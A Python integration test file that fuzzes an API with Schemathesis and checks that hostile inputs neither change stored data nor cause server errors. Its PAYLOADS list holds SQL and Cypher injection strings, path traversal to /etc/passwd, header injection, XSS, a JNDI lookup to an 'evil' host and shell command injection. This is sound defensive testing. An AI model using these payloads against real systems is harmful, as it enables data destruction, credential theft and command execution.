"""Requests that nobody should send, and what Schemathesis makes of the OpenAPI page: none is answered with a 500."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import requests
import schemathesis
import sqlalchemy as sa
from hypothesis import HealthCheck, Phase, given
from hypothesis import settings as bounded
from schemathesis import APIOperation, Case, checks
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_schema_conformance,
    status_code_conformance,
)
from sqlalchemy import Engine

from aibox_assets.api.app import create_app
from aibox_assets.local.embedded import running_graph
from aibox_assets.resources.platform import Platform
from aibox_assets.services.api_keys import make_key
from aibox_assets.settings import Settings
from aibox_assets.stores.graph_records import GraphAddress
from aibox_assets_tests.api.conftest import Client
from aibox_assets_tests.api.sending import make_all, sent
from aibox_assets_tests.stores.graph_files import WU_FOUNDED_ACME, file_graph

pytestmark = pytest.mark.integration

EXAMPLES = 6
"""Of each operation; the same ones at each run."""
STREAMS = {"/api/v1/events", "/api/v1/files/{file_id}/events"}
"""Their answers last for minutes."""
CHECKS: list[Any] = [
    checks.not_a_server_error,
    status_code_conformance,
    content_type_conformance,
    response_schema_conformance,
]


@pytest.fixture(scope="module")
def graph_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GraphAddress]:
    """One kind is enough: what differs between them is tested elsewhere."""
    with running_graph(tmp_path_factory.mktemp("graph")) as address:
        yield address


@pytest.fixture
def settings(settings: Settings, graph_server: GraphAddress) -> Settings:
    values: dict[str, Any] = {
        "neo4j_uri": graph_server.uri,
        "neo4j_user": graph_server.user,
        "neo4j_password": type(settings.neo4j_password)(graph_server.password),
        "neo4j_database": graph_server.database,
        "embedding_model": "builtin:all-MiniLM-L6-v2",
        "rate_limit": 10**6,
    }
    return settings.model_copy(update=values)


def test_every_answer_is_one_that_the_page_promises(api: str, signed_in: Client, platform: Platform) -> None:
    file_id = sent(signed_in("ada"), "a.txt")
    make_all(platform, file_id)
    page = schemathesis.openapi.from_dict(create_app(platform).openapi())
    known = {"file_id": file_id, "queue": "vectorization", "job_id": f"embeddings.{file_id}"}
    wrong: list[str] = []
    with requests.Session() as session:
        session.trust_env = False
        for found in page.get_all_operations():
            operation = found.ok()
            if operation.path not in STREAMS:
                secret, _ = make_key(platform, "ada", "schema")  # an operation may end the one before it
                session.headers["Authorization"] = f"Bearer {secret}"
                wrong += _tried(operation, api, session, known)
    assert not wrong, f"{len(wrong)} operations:\n" + "\n\n".join(wrong)


PAYLOADS = (
    "' OR '1'='1",
    "'; DROP TABLE aibox.files; --",
    "1); DELETE FROM aibox.files; --",
    "' UNION SELECT hash FROM aibox.api_keys --",
    "admin'--",
    "\\'; TRUNCATE aibox.accounts; --",
    "$$; DROP SCHEMA aibox CASCADE; $$",
    "%' AND pg_sleep(9) AND '%'='",
    "E'\\x27'",
    "ada' RETURNING secret --",
    "x') DETACH DELETE n //",
    "'}) MATCH (n) DETACH DELETE n RETURN 1 //",
    "` SET n.name='x' //",
    '"}) CREATE (:Hacked) //',
    "\\u0027 OR 1=1",
    "') CALL db.labels() YIELD label //",
    "LOAD CSV FROM 'file:///etc/passwd' AS l",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//etc/passwd",
    ".aibox-folder",
    "file:///etc/passwd",
    "x\x00.txt",
    "\x00",
    "a\r\nSet-Cookie: aibox_session=1",
    "a\nX-Injected: 1",
    "%0d%0aLocation: http://evil",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil/a}",
    "$(touch /tmp/pwned)",
    "`id`",
    "; cat /etc/passwd",
    "\u202e\u2066txt.exe",
    "\ufffe",
    "\U0010ffff",
    "9" * 190,
    "漢" * 190,
)
PLACES = (
    ("GET", "/search", "q"), ("GET", "/search", "owner"), ("GET", "/search", "language"), ("GET", "/files", "name"),
    ("GET", "/files", "text"), ("GET", "/files", "owner"), ("GET", "/files", "cursor"), ("GET", "/jobs", "file_id"),
    ("GET", "/graph/entities", "name"), ("GET", "/graph/path", "start"), ("GET", "/files/{}/content", ""),
    ("GET", "/graph/entities/{}", ""), ("GET", "/chunks/{}", ""),
    ("DELETE", "/files/{}", ""), ("DELETE", "/keys/{}", ""), ("DELETE", "/memory/{}", ""), ("PUT", "/memory/{}", ""),
)  # fmt: skip


HEADERS = ("X-Request-ID", "Idempotency-Key", "If-None-Match", "Authorization", "Last-Event-ID")


def test_hostile_texts_change_nothing_and_break_nothing(
    api: str, signed_in: Client, platform: Platform, inbox: Path, engine: Engine
) -> None:
    file_id = sent(signed_in("eve"), "a.txt")
    make_all(platform, file_id)
    platform.graph.ensure_schema(["FOUNDED"])
    platform.graph.replace_files([file_graph("g0", [WU_FOUNDED_ACME], [])])

    def stand() -> object:
        with engine.connect() as connection:
            tables = ("files", "accounts", "grants", "work", "api_keys", "chunks")
            rows = [
                connection.execute(sa.text(f"SELECT * FROM aibox.{name} t ORDER BY t::text")).all()
                for name in tables
            ]
        return rows, platform.graph.snapshot(), sorted(inbox.rglob("*"))

    bob = signed_in("bob")  # who sees none of it, and may change none of it
    tried: list[tuple[str, str, str, str, httpx.Response]] = []
    last_used = "UPDATE aibox.api_keys SET used_at = NULL"
    with engine.begin() as connection:
        connection.execute(sa.text(last_used))
    before = stand()
    for at, payload in enumerate(PAYLOADS):
        for method, path, name in (PLACES * 2)[5 * at % len(PLACES) :][:5]:
            url = path.format(quote(payload, safe=""))
            body = {"json": {"value": payload}} if method == "PUT" else {}
            answer = bob.request(method, url, params={name: payload} if name else None, **body)  # type: ignore[arg-type]
            tried.append((method, path, name, payload, answer))
        header = HEADERS[at % len(HEADERS)]
        bare = payload.encode().translate(None, b"\x00\r\n")  # which HTTP itself does not let through
        answer = httpx.get(
            f"{api}/api/v1/auth/me", headers={**bob.headers, header: bare}, trust_env=False, timeout=60
        )  # type: ignore[dict-item]
        tried.append(("GET", "/auth/me", header, payload, answer))
    with engine.begin() as connection:
        connection.execute(sa.text(last_used))
    assert stand() == before
    assert len(tried) >= 200
    for *asked, answer in tried:
        assert answer.status_code < 500, (asked, answer.text)
        assert "x-injected" not in answer.headers, asked
        assert "root:" not in answer.text, asked


@pytest.mark.parametrize("text", ["\x00", "a\x00b", "\ud800"])
def test_what_no_database_takes_is_the_caller_s_mistake(api: str, signed_in: Client, text: str) -> None:
    ada = signed_in("ada")
    bodies = {
        "/users": {"name": text, "password": "long enough to be one"},
        "/keys": {"name": text},
        "/auth/login": {"name": text, "password": "x"},
        "/files/actions": {"action": "retry", "filter": {"name": text}},
    }
    for path, body in bodies.items():
        answer = ada.post(path, content=json.dumps(body), headers={"Content-Type": "application/json"})
        assert answer.status_code in (400, 401, 422), (path, answer.text)


def _tried(operation: APIOperation, api: str, session: requests.Session, known: dict[str, str]) -> list[str]:
    """What is wrong with an operation's answers, if something is."""

    @bounded(
        max_examples=EXAMPLES,
        deadline=None,
        derandomize=True,
        database=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(case=operation.as_strategy(), of_known=...)
    def run(case: Case, of_known: bool) -> None:
        if of_known and case.method == "GET":  # else hardly one would be there
            case.path_parameters.update({n: v for n, v in known.items() if n in case.path_parameters})
        answer = case.call(base_url=api, session=session, timeout=30)
        case.validate_response(answer, checks=CHECKS)

    try:
        run()
    except Exception as error:  # noqa: BLE001  # whatever it is, the other operations are tried, too
        return [f"{operation.label}: {error}"]
    return []
